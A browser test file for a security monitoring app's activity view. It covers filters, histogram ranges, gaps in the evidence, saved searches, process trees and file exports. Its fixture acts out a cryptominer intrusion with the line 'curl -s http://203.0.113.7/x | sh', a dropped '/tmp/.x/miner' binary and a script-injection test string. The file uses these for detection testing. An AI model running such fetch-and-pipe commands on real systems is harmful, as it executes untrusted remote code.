/** The activity in a real browser: a session on a host among calls of the cloud; filters by a click, links that show the same, the tree, files. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Activity } from '../../server/src/activity/activity.ts';
import { saveGap } from '../../server/src/sources/sensor/store.ts';
import { describeInBrowser, openBrowser, openPageAs } from '../browser.ts';
import { look } from '../look.ts';
import { type EnrolledPerson, type RunningApp, startRunningApp } from '../running-app.ts';

const WIDE = { width: 1280, height: 860 };
const NARROW = { width: 390, height: 844 };
const BEGAN_MS = Date.now() - 20 * 60_000;

function ns(second: number): bigint {
  return BigInt(BEGAN_MS + second * 1_000) * 1_000_000n;
}

/** What a stranger did in a container for a few seconds, which is gone since. */
function session(): Activity[] {
  const common = {
    host: 'node-1',
    container: 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00',
    application: 'shop/deployment/web',
    loginUser: '',
    user: 'www-data',
    tty: 0,
    result: '',
    count: 1,
    bytes: 0,
  };
  const deed = (second: number, pid: number, parent: number, rest: Partial<Activity>): Activity => ({
    ...common,
    timeNs: ns(second),
    kind: 'command',
    process: { pid, startNs: ns(pid) },
    parent: { pid: parent, startNs: ns(parent) },
    name: '',
    exe: '',
    detail: '',
    ...rest,
  });
  return [
    deed(0, 1, 0, { name: 'nginx', exe: '/usr/sbin/nginx', detail: 'nginx -g daemon off;' }),
    deed(5, 50, 1, { name: 'sh', exe: '/bin/sh', detail: 'sh -c curl -s http://203.0.113.7/x | sh' }),
    deed(5, 51, 50, { name: 'curl', exe: '/usr/bin/curl', detail: 'curl -s http://203.0.113.7/x' }),
    deed(6, 51, 50, { kind: 'connection', name: 'curl', detail: '10.0.0.5:40112 → 203.0.113.7:80', bytes: 48_211 }),
    deed(6, 51, 50, { kind: 'exit', name: 'curl' }),
    deed(7, 52, 50, { kind: 'file-written', name: 'sh', detail: '/tmp/.x/miner', bytes: 2_411_724 }),
    deed(8, 52, 50, { kind: 'file-mode', name: 'chmod', detail: '/tmp/.x/miner' }),
    deed(9, 53, 50, {
      name: 'miner',
      exe: '/tmp/.x/miner',
      detail: '/tmp/.x/miner --threads 4',
      user: '<script>alert(1)</script>',
    }),
    ...Array.from({ length: 40 }, (_, index) =>
      deed(10 + index, 1, 0, { kind: 'file-read', name: 'nginx', detail: `/srv/page-${index % 30}.html`, count: 3 }),
    ),
  ];
}

describeInBrowser('the activity', () => {
  let running: RunningApp;
  let browser: Browser;
  let page: Page;
  let ann: EnrolledPerson;
  const complaints: string[] = [];

  beforeAll(async () => {
    running = await startRunningApp(
      'people: [{ email: ann@example.com, name: Ann Example, role: admin }]\npolicy: [{ when: {}, then: record }]\n',
      {},
    );
    ann = await running.enrol('ann@example.com');
    await running.app.activity.insert(session(), 'agent-1.1');
    await running.happens({ call: 'GetCallerIdentity', user: 'deployer' });
    browser = await openBrowser();
    page = await openPageAs(
      { browser, running, person: ann, complaints },
      {
        viewport: WIDE,
        timezoneId: 'UTC',
        permissions: ['clipboard-read', 'clipboard-write'],
      },
    );
  }, 120_000);

  /** A value of the table that can be pressed. */
  const value = (text: string) => page.locator('td').getByRole('button', { name: text, exact: true }).first();

  afterAll(async () => {
    await browser?.close();
    await running?.close();
    expect(complaints).toEqual([]);
  });

  test('rows of hosts and of the cloud stand in one stream, with a histogram', async () => {
    await expect
      .poll(async () => (await running.call(ann, 'GET', '/api/activity?with=kind:cloud-call')).body['rows'], {
        timeout: 30_000,
      })
      .toHaveLength(1);
    await page.goto(`${running.app.url}/activity`);
    await page.getByText('GetCallerIdentity').first().waitFor();
    await look(page, 'activity-wide');
    await page.setViewportSize(NARROW);
    await look(page, 'activity-narrow');
    await page.setViewportSize(WIDE);
  });

  test('a click excludes a value or shows nothing else, and the address says so', async () => {
    await page.goto(`${running.app.url}/activity`);
    await value('nginx').click();
    await look(page, 'activity-value', { whole: false });
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Without this' }).waitFor({ state: 'detached' });
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Without this' }).click();
    await page.getByText('/tmp/.x/miner --threads 4').waitFor();
    await page.waitForURL((url) => url.searchParams.getAll('without').includes('name:nginx'));
    await value('Connection').click();
    await page.getByRole('button', { name: 'Only this' }).click();
    await value('Command').waitFor({ state: 'detached' });
    await page.getByText('203.0.113.7:80').waitFor();
    expect(await page.getByRole('row').count()).toBe(2);
    const shared = page.url();
    await page.goto('about:blank');
    await page.goto(shared);
    await page.getByText('203.0.113.7:80').waitFor();
    expect(await page.getByRole('row').count()).toBe(2);
    await page.getByRole('button', { name: 'Show everything without kind Connection instead' }).click();
    await page.waitForURL((url) => url.searchParams.getAll('without').includes('kind:connection'));
    await page.getByRole('button', { name: 'Remove this filter: kind Connection' }).click();
    await page.waitForURL((url) => !url.search.includes('kind'));
    await value('node-1').click();
    await page.getByRole('button', { name: 'Copy' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('node-1');
  });

  test('what is drawn over is shown, and stays; a gap in the evidence is marked and told', async () => {
    const state = running.app.state;
    const lost = { class: 'file', lost: 7, fromMs: BEGAN_MS - 5 * 60_000, toMs: BEGAN_MS - 4 * 60_000 };
    await saveGap(state, 'node-1', lost);
    await page.goto(`${running.app.url}/activity`);
    await page.locator('.histogram .gap').waitFor({ state: 'attached' });
    const picture = await page.locator('.histogram svg').boundingBox();
    if (picture === null) throw new Error('no histogram');
    const middle = picture.y + picture.height / 2;
    // An hour up to now: its last half holds the session of twenty minutes ago.
    await page.mouse.move(picture.x + picture.width / 2, middle);
    await page.mouse.down();
    await page.mouse.move(picture.x + picture.width * 0.75, middle, { steps: 4 });
    await look(page, 'activity-brush');
    await page.mouse.up();
    await page.waitForURL((url) => url.searchParams.has('from'));
    const { searchParams } = new URL(page.url());
    const [from, to] = ['from', 'to'].map((name) => Date.parse(searchParams.get(name) ?? '')) as [number, number];
    expect((to - from) / 60_000).toBeGreaterThan(14);
    expect((to - from) / 60_000).toBeLessThan(16);
    await page.getByText('/tmp/.x/miner --threads 4').waitFor();
    await page.getByText('GetCallerIdentity').waitFor({ state: 'detached' });
    await look(page, 'activity-paused');

    await page.getByLabel('From', { exact: true }).fill(new Date(from - 3_600_000).toISOString().slice(0, 19));
    await page.getByRole('button', { name: 'Show', exact: true }).click();
    await page.waitForURL((url) => Date.parse(url.searchParams.get('from') ?? '') < from - 3_500_000);
    await page.getByText('Gaps in the evidence: 1').click();
    await page.getByText('7 events lost (files)').waitFor();
    await look(page, 'activity-gaps');
    await page.getByRole('button', { name: /–/ }).click();
    await page.waitForURL((url) => Date.parse(url.searchParams.get('to') ?? '') === lost.toMs);
    await page.getByText('Nothing was done in this time that fits.').waitFor();
    await page.goBack();
    await page.getByRole('button', { name: 'Go live' }).click();
    await page.waitForURL((url) => !url.searchParams.has('from'));
    await page.getByText('Live', { exact: true }).waitFor();
  });

  test('what comes meanwhile waits, and moves nothing', async () => {
    await page.goto(`${running.app.url}/activity?q=latecomer`);
    await page.getByText('Nothing was done in this time that fits.').waitFor();
    const late = session().slice(0, 2);
    // Told minutes after it was done, as clouds do.
    await running.app.activity.insert(
      late.map((deed) => ({ ...deed, detail: `${deed.detail} latecomer` })),
      'agent-1.late',
    );
    const before = await page.locator('.time-bar').boundingBox();
    await page.getByRole('button', { name: 'Show 2 new' }).waitFor();
    expect(await page.locator('.time-bar').boundingBox()).toEqual(before);
    expect(await page.getByRole('row').count()).toBe(0);
    await look(page, 'activity-waiting');
    await page.getByRole('button', { name: 'Show 2 new' }).click();
    await page.getByText('nginx -g daemon off; latecomer').waitFor();
    expect(await page.getByRole('row').count()).toBe(3);
    expect(await page.getByRole('button', { name: /^Show \d+ new/ }).count()).toBe(0);
  });

  test('a search is kept under a name, and its address shows it', async () => {
    await page.goto(`${running.app.url}/activity?with=name:miner&minutes=1440`);
    await page.getByText('Saved searches', { exact: false }).click();
    await page.getByLabel('Keep this search as').fill('Miners of a day');
    await page.getByRole('button', { name: 'Keep', exact: true }).click();
    await page.waitForURL('**/activity/saved/*');
    const address = page.url();
    await page.goto('about:blank');
    await page.goto(address);
    await page.getByRole('heading', { name: 'Miners of a day', level: 1 }).waitFor();
    await page.getByText('/tmp/.x/miner --threads 4').first().waitFor();
    expect(await page.getByRole('row').count()).toBe(2);
    await page.getByText('Saved searches', { exact: false }).click();
    await look(page, 'activity-saved');
    await page.setViewportSize(NARROW);
    await look(page, 'activity-saved-narrow');
    await page.setViewportSize(WIDE);
    // Whatever is changed in it is another search.
    await page.getByRole('button', { name: '15 minutes' }).click();
    await page.waitForURL('**/activity?with=name%3Aminer&minutes=15');
    await page.goto(address);
    await page.getByText('Saved searches', { exact: false }).click();
    await page.getByRole('button', { name: 'Remove the search Miners of a day' }).click();
    await page.waitForURL('**/activity?with=name%3Aminer&minutes=1440');
    await page.goto(address);
    await page.getByText('There is no such saved search', { exact: false }).waitFor();
    expect(complaints.splice(0)).toEqual([expect.stringContaining('404')]);
  });

  test('from a row to the processes of its moment, although the container is gone', async () => {
    await page.goto(`${running.app.url}/activity?with=name:miner`);
    await page.getByText('/tmp/.x/miner --threads 4').first().waitFor();
    await page.locator('td button.plain').first().click();
    await page.getByRole('complementary', { name: 'Processes at this moment' }).waitFor();
    const tree = page.locator('.tree');
    await tree.getByText('miner --threads').waitFor();
    expect(await tree.locator('li').allTextContents()).toHaveLength(3);
    await look(page, 'activity-tree-wide');
    // Whoever is sent the address sees the same.
    await page.reload();
    await tree.getByText('miner --threads').waitFor();
    await page.getByRole('button', { name: 'Close' }).click();
    await tree.waitFor({ state: 'detached' });
    await page.goBack();
    await tree.getByText('miner --threads').waitFor();
    await page.evaluate(() => localStorage.setItem('countersign.language', 'ja'));
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.reload();
    await page.getByRole('heading', { name: 'アクティビティ' }).waitFor();
    await page.locator('td').getByText('コマンド').first().waitFor();
    await look(page, 'activity-ja-dark');
    await page.emulateMedia({ colorScheme: 'light' });
    await page.evaluate(() => localStorage.setItem('countersign.language', 'en'));
  });

  test('the same as files, where no value can become a formula', async () => {
    const csv = String((await running.call(ann, 'GET', '/api/activity.csv?with=name:curl')).body['text']);
    expect(csv.split('\r\n')[0]).toBe(
      'at,kind,host,container,application,pid,name,exe,loginUser,user,detail,result,count,bytes',
    );
    expect(csv.split('\r\n')).toHaveLength(5);
    const { body } = await running.call(ann, 'GET', '/api/activity.json?with=name:miner');
    expect(body).toMatchObject({ detail: '/tmp/.x/miner --threads 4' });
  });

  test('an unknown field, a wrong time and a stranger are refused in words', async () => {
    const { status, body } = await running.call(ann, 'GET', '/api/activity?with=color:red');
    expect([status, body['message']]).toEqual([400, expect.stringContaining('the fields are kind, host')]);
    expect((await running.call(ann, 'GET', '/api/activity?from=yesterday')).status).toBe(400);
    expect((await running.call(null, 'GET', '/api/activity')).status).toBe(401);
  });
});
